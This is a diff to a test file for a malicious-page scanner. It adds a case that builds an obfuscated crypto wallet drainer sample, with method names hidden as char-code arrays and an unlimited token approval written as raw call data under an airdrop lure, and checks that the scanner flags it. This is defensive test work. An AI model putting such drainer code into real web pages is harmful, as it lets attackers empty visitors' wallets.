@@ -143,6 +143,20 @@ describe('malicious behaviour', () => {
     expect(scoreOf(check(script("window.ethereum.request({method:'eth_requestAccounts'})"), 'Portfolio'), 'page_crypto_drainer')).toBe(0);
   });
 
+  it('reads method names kept as char-code arrays and an unlimited approval written as raw call data', () => {
+    const codes = (text: string) => `[${[...text].map((char) => char.charCodeAt(0)).join(',')}]`;
+    const drainer = script(
+      `var F=function(a){return String.fromCharCode.apply(null,a)},RA=F(${codes('eth_requestAccounts')}),SX=F(${codes('eth_sendTransaction')});` +
+        'var a=(await window.ethereum.request({method:RA}))[0];' +
+        "await window.ethereum.request({method:SX,params:[{from:a,to:t,data:'0x095ea7b3000000000000000000000000'+SP.slice(2)+'" +
+        'f'.repeat(64) +
+        "'}]})",
+    );
+    const found = check(drainer, 'Resgate seu airdrop');
+    expect(scoreOf(found, 'page_crypto_drainer')).toBeGreaterThanOrEqual(85);
+    expect(messageOf(found, 'page_crypto_drainer')).toMatch(/unlimited approve, eth_sendTransaction/);
+  });
+
   it('clears a project\u2019s own dapp whose wallet code only reads, not one that asks for a signature or sits on a stranger\u2019s domain', () => {
     const reads = script(
       "connect.onclick = async () => { await window.ethereum.request({method:'eth_requestAccounts'}); await window.ethereum.request({method:'eth_chainId'}); }",
